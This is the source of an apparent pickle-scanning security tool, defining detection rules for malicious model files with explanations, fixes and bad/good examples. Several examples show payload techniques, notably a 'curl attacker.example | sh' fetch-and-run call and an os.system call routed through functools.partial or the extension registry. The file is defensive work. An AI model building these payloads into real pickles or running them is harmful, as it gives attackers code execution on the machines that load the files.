"""Pickles: what unpickling would import, call and rebuild, and what that means.

The judgement goes by cause. A callable is harmless only where the generated allow-list says why (rules/allowlist.py)
or its guard accepts the arguments (rules/guards.py); everything else of the standard library or of a known library is
high when called, an unknown package is high when called and medium when only rebuilt, and names whose effect is known
(data/danger.toml) are critical.
"""

from collections.abc import Iterator

from modelscan_plus.core.finding import BytesEvidence, Finding, PickleEvidence, Severity
from modelscan_plus.formats.pickle.disassemble import Disassembler
from modelscan_plus.formats.pickle.facts import Anomaly, PickleFacts
from modelscan_plus.formats.pickle.values import expanded_size
from modelscan_plus.rules.interface import Context, Rule, judges
from modelscan_plus.rules.pickle_effects import Concern, Judgement, judge_effects
from modelscan_plus.rules.pickle_evidence import add_program, pickle_evidence

_PICKLE_DOCS = "https://docs.python.org/3/library/pickle.html"
_CWE = ("CWE-502",)
_DO_NOT_LOAD = (
    "Do not load this file. Ask its publisher for safetensors or ONNX weights, and report the file where it came from."
)

DANGEROUS_CALL = Rule(
    id="MSP1001",
    slug="pickle-dangerous-call",
    title="Unpickling runs code, starts a process, or touches files or the network",
    severity=Severity.CRITICAL,
    why=(
        "A pickle is a program for a small machine, and one of its instructions calls any Python function with any "
        "arguments. This pickle uses it for a function whose effect is known and has no place in a model. The call "
        "happens while the file is being loaded, before any of your own code sees the result."
    ),
    fix=_DO_NOT_LOAD,
    bad="from posix import system\nsystem('curl attacker.example | sh')",
    good="from torch._utils import _rebuild_tensor_v2\n_rebuild_tensor_v2(storage, 0, (3, 4), (4, 1), False, {})",
    cwe=_CWE,
    references=(_PICKLE_DOCS, "https://arxiv.org/abs/2508.19774"),
)
LIBRARY_CALL = Rule(
    id="MSP1002",
    slug="pickle-unlisted-call",
    title="Unpickling calls a library function that is not known to be harmless",
    severity=Severity.HIGH,
    why=(
        "The function belongs to the standard library or to a library that models commonly use, but it is not one that "
        "pickles of honest models call, and its source was not found to be free of side effects. Such functions are "
        "the building stones of attacks that avoid well-known names."
    ),
    fix="Do not load the file unless its publisher can explain this call; ask for weights in a format without code.",
    bad="from platform import node\nnode('…')",
    good="from collections import OrderedDict\nOrderedDict([('weight', …)])",
    cwe=_CWE,
    references=(_PICKLE_DOCS,),
)
FOREIGN_CALL = Rule(
    id="MSP1003",
    slug="pickle-third-party-call",
    title="Unpickling calls a function of a package that nobody vouched for",
    severity=Severity.HIGH,
    why=(
        "Loading the file imports that package and runs the function. Whether this is harmless depends on code that is "
        "not in the file: on whatever package of that name is installed where the file is loaded."
    ),
    fix=(
        'If it is your own code, vouch for the exact name in your policy: [pickle] allow = ["package.module:name"]. '
        "Otherwise do not load the file."
    ),
    bad="from mycorp.helpers import build\nbuild('model-v3')",
    good='the same call, with [pickle] allow = ["mycorp.helpers:build"] in the policy',
    cwe=_CWE,
    references=(_PICKLE_DOCS,),
)
UNVETTED_CLASS = Rule(
    id="MSP1004",
    slug="pickle-unvetted-class",
    title="Unpickling rebuilds an object of a class that nobody vouched for",
    severity=Severity.MEDIUM,
    why=(
        "Rebuilding imports the module of the class and runs its __new__ and __setstate__. For classes of common "
        "libraries these were read and found harmless; this class is not among them."
    ),
    fix=(
        'If you know the class, vouch for it in your policy: [pickle] allow = ["package.module:Class"]. Otherwise ask '
        "for a format that stores weights alone."
    ),
    bad="model = mycorp.nets.Classifier.__new__(mycorp.nets.Classifier)",
    good="model = sklearn.svm._classes.SVC.__new__(sklearn.svm._classes.SVC)",
    cwe=_CWE,
    references=(_PICKLE_DOCS,),
)
DANGEROUS_IMPORT = Rule(
    id="MSP1005",
    slug="pickle-dangerous-import",
    title="The pickle holds a reference to a dangerous function",
    severity=Severity.HIGH,
    why=(
        "The function is imported but not called by the pickle itself. A reference that is stored in an object can be "
        "called later, by the object's own methods or by the library that uses it. Honest models do not carry one."
    ),
    fix=_DO_NOT_LOAD,
    bad="from posix import system\n{'callback': system}",
    good="from numpy import float32\n{'dtype': float32}",
    cwe=_CWE,
    references=(_PICKLE_DOCS,),
)
COMPUTED_CALL = Rule(
    id="MSP1006",
    slug="pickle-computed-call",
    title="The pickle looks a callable up at run time and calls it",
    severity=Severity.HIGH,
    why=(
        "The name of what is called does not stand in the import instruction: it is reached through attributes of "
        "other objects or through helpers such as getattr. This is how a payload hides a dangerous name from scanners."
    ),
    fix=_DO_NOT_LOAD,
    bad="from builtins import getattr\nf = getattr(logging, 'os')\n…",
    good="from builtins import getattr\ngetattr(sklearn.svm._classes.SVC, 'predict')   # stored, not called",
    cwe=("CWE-502", "CWE-470"),
    references=(_PICKLE_DOCS, "https://arxiv.org/abs/2508.19774"),
)
PATCH = Rule(
    id="MSP1007",
    slug="pickle-patches-global",
    title="Unpickling changes a class, a module or another shared object",
    severity=Severity.HIGH,
    why=(
        "The state is not applied to an object made by the pickle but to something imported: every later user of that "
        "class or module in the process gets the changed version. No call instruction is needed for it."
    ),
    fix=_DO_NOT_LOAD,
    bad="from json import JSONDecoder\nJSONDecoder.__setstate__({'decode': …})",
    good="d = OrderedDict()\nd.__setstate__({…})   # the object is the pickle's own",
    cwe=_CWE,
    references=(_PICKLE_DOCS,),
)
EXTENSION = Rule(
    id="MSP1008",
    slug="pickle-extension-registry",
    title="The pickle uses the extension registry",
    severity=Severity.HIGH,
    why=(
        "Extension codes are numbers for names that some program registered before. What such a number means cannot "
        "be read from the file, or the file registers it itself to hide the name; libraries for models do neither."
    ),
    fix="Do not load the file; ask for one that was written without extension codes.",
    bad="copyreg.add_extension('posix', 'system', 7)\next(7)('id')",
    good="from collections import OrderedDict   # a name in the clear",
    cwe=_CWE,
    references=("https://peps.python.org/pep-0307/",),
)
MALFORMED = Rule(
    id="MSP1009",
    slug="pickle-malformed",
    title="The pickle is broken",
    severity=Severity.MEDIUM,
    why=(
        "A loader stops here with an error, but everything before this place has run by then. Attackers break files on "
        "purpose, because some scanners give up on them."
    ),
    fix="Get the file again and compare its digest. If it is the same, treat it as hostile.",
    bad="PROTO 4 · STACK_GLOBAL posix system · … · REDUCE · (end of data, no STOP)",
    good="PROTO 4 · … · STOP",
    cwe=_CWE,
    references=("https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",),
)
EXPANSION = Rule(
    id="MSP1010",
    slug="pickle-expansion-bomb",
    title="Shared references expand beyond any memory",
    severity=Severity.HIGH,
    why=(
        "Each level refers to the one below several times. The file is small and loads, but anything that walks, "
        "prints, compares or copies the object runs for ever or out of memory."
    ),
    fix="Do not load the file.",
    bad="a = ('x', 'x'); b = (a, a); c = (b, b); …   # 120 levels",
    good="[layer, layer]   # tied weights: one object, used twice",
    cwe=("CWE-400", "CWE-776"),
)
DANGEROUS_ARGUMENT = Rule(
    id="MSP1011",
    slug="pickle-dangerous-argument",
    title="A permitted helper is called with arguments that are not harmless",
    severity=Severity.HIGH,
    why=(
        "The function is one that honest pickles call, but it takes other callables, attribute names, codecs, sizes or "
        "further pickles, and here it is given something that honest pickles do not give it."
    ),
    fix="Do not load the file unless its publisher can explain the call.",
    bad="from functools import partial\npartial(os.system, 'id')",
    good="from functools import partial\npartial(torch.nn.functional.relu)",
    cwe=_CWE,
    references=(_PICKLE_DOCS,),
)
READERS_DIFFER = Rule(
    id="MSP1012",
    slug="pickle-readers-differ",
    title="Unpicklers disagree about these bytes",
    severity=Severity.MEDIUM,
    why=(
        "Python's C unpickler, its pure Python twin and the loaders built on them do not treat this place alike: one "
        "stops, another goes on. A file that depends on it is seen differently by a scanner and by the loader. Every "
        "reading was judged here."
    ),
    fix="Get the file from its publisher again; a file written by Python's pickler does not contain this.",
    bad="FRAME 10 · (12 bytes of opcodes)",
    good="FRAME 12 · (12 bytes of opcodes)",
    cwe=("CWE-436",),
    references=("https://arxiv.org/abs/2605.15084",),
)
UNVETTED_IMPORT = Rule(
    id="MSP1014",
    slug="pickle-unvetted-import",
    title="The pickle refers to a name that nobody vouched for",
    severity=Severity.MEDIUM,
    why=(
        "Loading imports the module, which runs its top level, and stores a reference to the name. It is not called by "
        "the pickle, but may be called by whoever uses the object."
    ),
    fix='If you know the name, vouch for it in your policy: [pickle] allow = ["package.module:name"].',
    bad="from mycorp.activations import swish\n{'activation': swish}",
    good="from torch.nn.functional import relu\n{'activation': relu}",
    cwe=_CWE,
    references=(_PICKLE_DOCS,),
)

ABOUT_UNKNOWN_CODE = (FOREIGN_CALL, UNVETTED_CLASS, UNVETTED_IMPORT)
"""Rules about code that is merely unknown: a policy can vouch for it. For what is known to be harmful it cannot."""

_BY_KIND: dict[Concern, Rule] = {
    Concern.DANGEROUS_CALL: DANGEROUS_CALL,
    Concern.LIBRARY_CALL: LIBRARY_CALL,
    Concern.FOREIGN_CALL: FOREIGN_CALL,
    Concern.UNVETTED_CLASS: UNVETTED_CLASS,
    Concern.DANGEROUS_IMPORT: DANGEROUS_IMPORT,
    Concern.COMPUTED_CALL: COMPUTED_CALL,
    Concern.PATCH: PATCH,
    Concern.EXTENSION: EXTENSION,
    Concern.DANGEROUS_ARGUMENT: DANGEROUS_ARGUMENT,
    Concern.UNVETTED_IMPORT: UNVETTED_IMPORT,
    Concern.IMPOSSIBLE_NAME: MALFORMED,
}
_DIFFERENCES: dict[str, Severity] = {
    "protocol": Severity.MEDIUM,
    "frame-length": Severity.HIGH,
    "frame-past-end": Severity.MEDIUM,
    "text-encoding": Severity.MEDIUM,
    "8-bit-text": Severity.INFO,
    "cut-name": Severity.MEDIUM,
    "joblib-array": Severity.MEDIUM,
}
"""Anomalies about which readers differ. No pickler writes a frame of a wrong length, and C's unpickler, when it reads
from a file, drops what is left of a frame that ends inside an argument: it then imports another name than is seen."""
_EXPANSION = 10**15
_ALWAYS, _AT_MOST = 3, 400
"""Findings of one pickle: some even where the file has no room left, since the worst of all are kept in the end."""


@judges(PickleFacts)
def pickle_effects(facts: PickleFacts, context: Context) -> Iterator[Finding]:
    """What the pickle does."""
    judgements = judge_effects(facts)
    if not judgements:
        return
    room = max(_ALWAYS, min(_AT_MOST, context.room))
    if len(judgements) > room:
        context.dropped += len(judgements) - room
        judgements = sorted(judgements, key=lambda judgement: -_severity(judgement).rank)[:room]
    severities = {judgement.effect.offset: _severity(judgement) for judgement in judgements}
    disassembler = Disassembler(context.artifact.source, facts.start)
    program = add_program(facts, context, severities, disassembler) if context.room > 0 else None
    for judgement in judgements:
        evidence = pickle_evidence(judgement, disassembler, context, program)
        yield _finding(judgement, facts, context, evidence)


def _severity(judgement: Judgement) -> Severity:
    return judgement.severity or _BY_KIND[judgement.concern].severity


def _finding(judgement: Judgement, facts: PickleFacts, context: Context, evidence: PickleEvidence) -> Finding:
    reading = f" (as {facts.reading} reads the file)" if facts.reading == "pickle.load" else ""
    more = f"; {judgement.repeats:,} times" if judgement.repeats > 1 else ""
    return context.finding(
        _BY_KIND[judgement.concern],
        f"{judgement.message}{more}{reading}.",
        evidence,
        subject=judgement.subject,
        offset=judgement.effect.offset,
        severity=judgement.severity,
    )


@judges(PickleFacts)
def pickle_structure(facts: PickleFacts, context: Context) -> Iterator[Finding]:
    """Whether the stream is whole, and whether all readers agree on it."""
    for anomaly in facts.anomalies:
        if anomaly.code in _DIFFERENCES:
            message = f"{anomaly.message} (byte {anomaly.offset:,})"
            yield _structural(READERS_DIFFER, anomaly, message, context, _DIFFERENCES[anomaly.code])
    if facts.ended == "error":
        last = facts.anomalies[-1] if facts.anomalies else Anomaly("malformed", facts.end, "it ends without STOP")
        message = f"loading stops at byte {last.offset:,}: {last.message}; what stands before has run by then"
        yield _structural(MALFORMED, last, message, context)
    size = expanded_size(facts.result)
    if size > _EXPANSION:
        anomaly = Anomaly("expansion", facts.start, "")
        message = f"{facts.opcodes:,} opcodes describe an object of more than 10^{len(str(size)) - 1} parts"
        yield _structural(EXPANSION, anomaly, message, context)


def _structural(
    rule: Rule, anomaly: Anomaly, message: str, context: Context, severity: Severity | None = None
) -> Finding:
    evidence = BytesEvidence(note=anomaly.message or message, hex=context.hex_window(anomaly.offset))
    return context.finding(
        rule, f"{message}.", evidence, subject=anomaly.code, offset=anomaly.offset, severity=severity
    )
